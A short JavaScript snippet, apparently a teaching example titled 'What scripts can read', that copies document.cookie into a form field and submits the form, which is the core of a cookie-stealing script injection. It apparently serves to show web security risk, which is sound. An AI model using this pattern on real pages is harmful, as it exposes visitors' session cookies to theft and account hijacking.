// What scripts can read
const [form] = document.forms;
form.cookie.value = document.cookie;
form.submit();
